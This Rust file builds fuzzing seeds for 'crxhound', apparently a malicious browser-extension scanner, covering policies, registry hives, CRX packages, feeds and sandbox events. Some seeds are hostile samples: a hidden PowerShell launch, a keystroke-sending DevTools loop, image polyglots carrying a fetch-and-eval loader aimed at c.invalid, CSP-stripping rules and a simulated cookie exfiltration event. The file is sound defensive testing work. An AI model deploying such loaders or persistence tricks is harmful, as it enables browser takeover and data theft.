//! What mutations begin with: for each target of `fuzz/targets.rs` a few inputs that it understands.

use std::fs;
use std::io::Write as _;
use std::path::Path;

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use crxhound::builtin;
use crxhound::report::{self, FORMATS, Format, View};
use crxhound::rules::pack;
use crxhound::sandbox::protocol::{Answer, Ending, Event};
use serde_json::json;
use zip::write::SimpleFileOptions;

use super::{hive, leveldb, lnk, made};

/// Larger files are no good to begin with: a mutation that matters is hit too seldom.
const LARGEST: u64 = 16 << 10;

const ID: &str = "abcdefghijklmnopabcdefghijklmnop";

/// The inputs to begin with.
pub fn seeds(target: &str) -> Vec<Vec<u8>> {
    let texts = |texts: &[&str]| texts.iter().map(|text| text.as_bytes().to_vec()).collect::<Vec<_>>();
    match target {
        "answer" => answers(),
        "command-line" => texts(&[
            r#""C:\Program Files\Google\Chrome\chrome.exe" --load-extension="C:\Users\han\AF,D:\more" --user-data-dir=x"#,
            "Exec=/usr/bin/chromium --load-extension=/home/w/.cache/ext --remote-debugging-port=9222 %U",
            r"powershell -w hidden -file C:\ProgramData\dev.ps1; Start-Process chrome.exe --profile-directory='Default'",
        ]),
        "companion" => {
            texts(&["$shell = New-Object -ComObject WScript.Shell\nwhile ($true) {\n  $shell.AppActivate('DevTools')\n\
             $shell.SendKeys('^+j')\n  Start-Process chrome.exe -WindowStyle Hidden\n  Set-Content \"$data\\Preferences\" $json\n}\n"])
        }
        "computed-hashes" => vec![
            json!({"version": 2, "file_hashes": [
                {"path": "script.js", "block_size": 4096, "block_hashes": [BASE64_STANDARD.encode([7; 32])]},
            ]})
            .to_string()
            .into_bytes(),
        ],
        "configuration" => {
            texts(&["fail-on = \"review\"\nthreads = 2\nredact = true\n[scan]\nformat = [\"json\", \"html\"]\n"])
        }
        "crx" => crx(),
        "feed" => feeds(),
        "fleet" => fleet(),
        "group-policy" => vec![group_policy()],
        "guard" | "script" => files_below("fixtures/packages", &["js"]).into_iter().chain(flows()).collect(),
        "hive" => vec![registry()],
        "host" => texts(&[
            "*://*.example.com/*\nhttps://mail.google.com/mail/u/0/\n<all_urls>\nhttp://[::1]:80/x\nhttps://a.b.co.uk/?q#f",
            "file:///*\nhttps://xn--bcher-kva.example/*\nhttps://user:word@192.0.2.7:8443/*\nchrome-extension://x/y",
        ]),
        "leveldb-log" => {
            let write = leveldb::batch(7, &[("key", Some(b"value")), ("gone", None), ("key two", Some(&[b'x'; 300]))]);
            vec![leveldb::log(&[write.clone(), leveldb::batch(10, &[("a", Some(b"1"))])]), write]
        }
        "leveldb-table" => {
            let data = leveldb::data_block(&[(1, ("key", Some(b"value"))), (2, ("key two", None)), (3, ("other", Some(b"")))]);
            let packed = snap::raw::Encoder::new().compress_vec(&data).unwrap();
            vec![leveldb::table_of(&data, 0), leveldb::table_of(&packed, 1), data, packed]
        }
        "mac" => vec![preferences(true)],
        "manifest" => files_below("fixtures/packages", &["json"]),
        "messages" => texts(&[
            r#"{"name": {"message": "Save $WHAT$ as $1", "placeholders": {"what": {"content": "$1", "example": "mail"}}},
                "Other": {"message": "__MSG_name__ $$ $missing$"}}"#,
        ]),
        "net-rules" => texts(&[r#"[{"id": 1, "priority": 1, "action": {"type": "modifyHeaders", "responseHeaders": [
                {"header": "content-security-policy", "operation": "remove"}]}, "condition": {"urlFilter": "||mail.example/*",
                "resourceTypes": ["main_frame"]}},
               {"id": 2, "action": {"type": "redirect", "redirect": {"transform": {"host": "a.invalid"}}},
                "condition": {"regexFilter": "^https://(.*)", "requestDomains": ["b.invalid"]}}]"#]),
        "pack" => {
            let files = [("behaviour/a.toml", "id = 1"), ("indicators/b.csv", "value,type\n")];
            let files = files.map(|(path, text)| (path.to_owned(), text.to_owned())).into();
            let key = pack::SigningKey::from_bytes(&crate::fuzz::targets::PACK_KEY);
            vec![
                pack::seal(pack::day("2026-11-26").unwrap(), &files, &key).unwrap(),
                pack::key_text(&key.verifying_key()).into(),
            ]
        }
        "page" => files_below("fixtures/packages", &["html"])
            .into_iter()
            .chain(texts(&["<!doctype html><base href=//a.invalid><script src=script.js></script><script>eval(name)</script>\
                <iframe src=https://b.invalid></iframe><form action=https://c.invalid><input type=password onfocus='f()'>"]))
            .collect(),
        "picture" => {
            let chunk = |kind: &[u8], data: &[u8]| [&(data.len() as u32).to_be_bytes()[..], kind, data, &[0; 4]].concat();
            let png = [&b"\x89PNG\r\n\x1a\n"[..], &chunk(b"IHDR", &[0; 13]), &chunk(b"IEND", &[])].concat();
            let script =
                b"var x=1;(function(){fetch('https://c.invalid').then(t=>eval(t))})()/* a loader, and some more text */";
            vec![
                [&png[..], script].concat(),
                [&b"GIF89a"[..], &[0; 7], script].concat(),
                [&png[..], b"PK\x03\x04", &[1; 200]].concat(),
            ]
        }
        "plist" => texts(&[r#"<?xml version="1.0"?><plist version="1.0"><dict><key>ExtensionInstallForcelist</key>
            <array><string>abc;https://a.invalid</string><integer>7</integer><true/><data>AAEC</data></array></dict></plist>"#])
        .into_iter()
        .chain([binary_plist()])
        .collect(),
        "policies" => vec![
            json!({
                "ExtensionInstallForcelist": [format!("{ID};https://a.invalid/update.xml")],
                "ExtensionInstallBlocklist": ["*"], "ExtensionInstallSources": ["https://*/*"],
                "ExtensionSettings": {"*": {"installation_mode": "blocked"}, (ID): {"installation_mode": "force_installed",
                    "update_url": "https://a.invalid/u.xml", "runtime_allowed_hosts": ["*://*"]}},
                "DeveloperToolsAvailability": 1,
            })
            .to_string()
            .into_bytes(),
        ],
        "policy" => vec![
            format!(
                "[[allow]]\nid = \"{ID}\"\nversion = \">=2, <3\"\nreason = \"ours\"\nexpires = 2026-12-31\n\
                 [[deny]]\nid = \"{ID}\"\nreason = \"no\"\nverdict = \"review\"\n\
                 [[override]]\nfinding = \"x\"\npath = 'C:\\Users\\*\\x'\nseverity = \"low\"\nreason = \"y\"\n"
            )
            .into_bytes(),
        ],
        "preferences" => vec![preferences(false)],
        "registered-scripts" => {
            texts(&[r#"[{"id":"_dc_a","js":[{"file":"script.js"},{"code":"alert(1)"}],"matches":["https://example.com/*"],
                "source":"DYNAMIC_CONTENT_SCRIPT","world":"ISOLATED"}, 7]"#])
        }
        "report" => reports(),
        "rule" => builtin::signatures().filter(|(path, _)| path.ends_with(".toml")).map(|(_, text)| text.into()).collect(),
        "shortcut" => vec![lnk::shortcut(r"C:\Chrome\chrome.exe", r"--load-extension=C:\AF --user-data-dir=x")],
        "verified-contents" => vec![verified_contents()],
        "yara" => texts(&[
            "import \"hash\"\nrule a : tag { meta: x = \"y\" strings: $a = \"sendMessage\" nocase $b = { 6D 6F ?? 65 } \
             $c = /mode=[a-z]{3,9}&/ condition: filename == \"bg.js\" and 2 of them or hash.md5(0, 9) == \"x\" }\n",
        ]),
        "zip" => vec![archive()],
        other => panic!("{other} has no seeds"),
    }
}

/// Files of the project with these endings.
fn files_below(folder: &str, endings: &[&str]) -> Vec<Vec<u8>> {
    let entries = walkdir::WalkDir::new(Path::new(env!("CARGO_MANIFEST_DIR")).join(folder)).sort_by_file_name();
    let files = entries.into_iter().map(Result::unwrap).filter(|entry| entry.metadata().unwrap().len() <= LARGEST);
    let wanted = |path: &Path| path.extension().is_some_and(|ending| endings.iter().any(|wanted| ending == *wanted));
    files.filter(|entry| wanted(entry.path())).map(|entry| fs::read(entry.path()).unwrap()).collect()
}

/// The scripts of the pages that show data flows.
fn flows() -> Vec<Vec<u8>> {
    let pages = files_below("fixtures/flows", &["md"]).into_iter().map(|page| String::from_utf8(page).unwrap());
    pages.flat_map(|page| page.split("```js").skip(1).map(block).collect::<Vec<_>>()).collect()
}

fn block(rest: &str) -> Vec<u8> {
    rest.split("```").next().unwrap_or_default().as_bytes().to_vec()
}

fn archive() -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, text) in [("manifest.json", made::manifest(0).to_string()), ("js/worker.js", "fetch(1);".repeat(50))] {
        writer.start_file(name, SimpleFileOptions::default()).unwrap();
        writer.write_all(text.as_bytes()).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A package of each version, with proofs that do not hold.
fn crx() -> Vec<Vec<u8>> {
    let field = |number: u64, bytes: &[u8]| {
        [&leveldb::varint(number << 3 | 2)[..], &leveldb::varint(bytes.len() as u64), bytes].concat()
    };
    let proof = [field(1, &[0x30; 40]), field(2, &[7; 64])].concat();
    let header = [field(2, &proof), field(3, &proof), field(10_000, &field(1, &[5; 16]))].concat();
    let third = [b"Cr24\x03\0\0\0", &(header.len() as u32).to_le_bytes()[..], &header, &archive()].concat();
    let second = [&b"Cr24\x02\0\0\0\x10\0\0\0\x10\0\0\0"[..], &[0x30; 16], &[7; 16], &archive()].concat();
    vec![third, second]
}

fn preferences(with_codes: bool) -> Vec<u8> {
    let (id, code) = (made::id(0).to_string(), "0A".repeat(32));
    let mut document = json!({
        "extensions": {
            "settings": {(id.clone()): made::store_entry(0, &made::manifest(0)),
                (ID): {"location": 4, "path": r"C:\Users\han\AF", "state": 0, "disable_reasons": [1, 8192]}},
            "ui": {"developer_mode": true}, "pinned_extensions": [ID], "external_uninstalls": [ID],
            "theme": {"id": ID, "path": "x"},
        },
        "homepage": "https://a.invalid", "session": {"startup_urls": ["https://b.invalid"]},
    });
    if with_codes {
        document["protection"] = json!({
            "macs": {"homepage": code, "extensions": {"settings": {(id.clone()): code}, "settings_encrypted_hash": {(id): "djEwAA=="}}},
            "super_mac": code,
        });
    }
    document.to_string().into_bytes()
}

fn verified_contents() -> Vec<u8> {
    let hash = BASE64_URL_SAFE_NO_PAD.encode([3; 32]);
    let payload = json!({
        "content_hashes": [{"block_size": 4096, "digest": "sha256", "format": "treehash", "hash_block_size": 4096,
            "files": [{"path": "script.js", "root_hash": hash}]}],
        "item_id": ID, "item_version": "1.0", "protocol_version": 1,
    });
    let protected = BASE64_URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256"}"#);
    let signed = json!({
        "payload": BASE64_URL_SAFE_NO_PAD.encode(payload.to_string()),
        "signatures": [{"header": {"kid": "webstore"}, "protected": protected, "signature": "AAAA"}],
    });
    json!([{"description": "treehash per file", "signed_content": signed}]).to_string().into_bytes()
}

fn registry() -> Vec<u8> {
    let mut root = hive::Key::new("ROOT");
    let chrome = root.at(r"Policies\Google\Chrome");
    chrome.set_text("HomepageLocation", "https://a.invalid").set("DeveloperToolsAvailability", 4, &1_u32.to_le_bytes());
    root.at(r"Policies\Google\Chrome\ExtensionInstallForcelist").set_text("1", &format!("{ID};https://a.invalid/u.xml"));
    root.at(r"Google\Chrome\Extensions").at(ID).set_text("path", r"C:\x.crx");
    root.bytes()
}

fn group_policy() -> Vec<u8> {
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let data = wide(&format!("{ID}\0"));
    let parts: [&[u8]; 8] = [
        b"PReg\x01\0\0\0",
        &wide("[Software\\Policies\\Google\\Chrome\\ExtensionInstallForcelist\0;1\0;"),
        &1_u32.to_le_bytes(),
        &wide(";"),
        &(data.len() as u32).to_le_bytes(),
        &wide(";"),
        &data,
        &wide("]"),
    ];
    parts.concat()
}

fn binary_plist() -> Vec<u8> {
    let mut value = plist::Dictionary::new();
    value.insert("ExtensionInstallForcelist".into(), plist::Value::Array(vec![ID.into(), 7.into(), true.into()]));
    let mut out = Vec::new();
    plist::Value::Dictionary(value).to_writer_binary(&mut out).unwrap();
    out
}

/// A feed of each form.
fn feeds() -> Vec<Vec<u8>> {
    let stix = json!({"type": "bundle", "id": "bundle--1", "objects": [{"type": "indicator", "pattern_type": "stix",
        "name": "x", "pattern": "[domain-name:value = 'a.invalid' OR file:hashes.'SHA-256' = '00']"}]});
    let misp = json!({"Event": {"info": "x", "Attribute": [{"type": "domain", "value": "a.invalid", "to_ids": true}],
        "Object": [{"Attribute": [{"type": "sha256", "value": "ab".repeat(32)}]}]}});
    [
        format!("value,type,family\n{ID},extension_id,X\na[.]invalid,domain,\n"),
        format!("# a list\n{ID}\nhxxps://b[.]invalid/x\n{}\n192.0.2.7\n", "ab".repeat(32)),
        format!("| id | name |\n| --- | --- |\n| {ID} | x |\n"),
        json!([{"extension_id": ID, "name": "x", "domains": ["a.invalid"]}]).to_string(),
        stix.to_string(),
        misp.to_string(),
    ]
    .map(String::into_bytes)
    .into()
}

/// A made report, in the forms that are read again.
fn reports() -> Vec<Vec<u8>> {
    let mut read = report::read::reports(include_bytes!("../../fixtures/reports/institute.json")).unwrap().remove(0);
    read.extensions.truncate(2);
    let forms = FORMATS.iter().filter(|form| [Format::Json, Format::Jsonl].contains(&form.format));
    let write = |form: &report::Form| {
        let mut out = Vec::new();
        form.render.unwrap().render(&read, &View::default(), &mut out).unwrap();
        out
    };
    forms.map(write).collect()
}

fn fleet() -> Vec<Vec<u8>> {
    let lines = |report: Vec<u8>| match serde_json::from_slice::<serde_json::Value>(&report) {
        Ok(document) => document.to_string().into_bytes(),
        Err(_) => report,
    };
    reports().into_iter().map(lines).collect()
}

fn answers() -> Vec<Vec<u8>> {
    let event = |kind: &str, data| Event { kind: kind.to_owned(), data };
    let events = vec![
        event("file", json!({"file": "script.js", "world": "background"})),
        event(
            "sink",
            json!({"api": "fetch", "url": "https://a.invalid/?kxqmailtextzv1", "text": "a3hxY29va2llamFyenY5",
            "asked": "no", "file": "script.js", "line": 1, "world": "background", "at": 4000}),
        ),
        event("code", json!({"text": "fetch('https://b.invalid')", "asked": "no", "file": "script.js", "line": 1})),
    ];
    let mut scene: Vec<_> = events.into_iter().map(Answer::Happened).collect();
    scene.push(Answer::Played { spent: 7, ending: Ending::Complete });
    let decoded = Answer::Decoded { values: vec![Some("x".to_owned()), None], ending: Ending::Threw };
    let line = |answer: &Answer| serde_json::to_string(answer).unwrap();
    [scene, vec![decoded]].map(|answers| answers.iter().map(line).collect::<Vec<_>>().join("\n").into_bytes()).to_vec()
}
